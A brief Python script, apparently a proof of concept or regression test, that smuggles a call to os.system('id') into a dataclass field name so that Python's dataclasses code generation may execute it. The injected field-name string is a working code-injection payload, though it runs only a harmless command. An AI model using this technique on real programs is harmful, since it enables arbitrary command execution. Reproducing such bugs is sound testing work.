import dataclasses

key = "x=__import__('os').system('id'),*y"


class Row:
    __annotations__ = {key: int}


setattr(Row, key, dataclasses.field(init=False, repr=False))
try:
    dataclasses.dataclass(Row)
except TypeError:
    pass
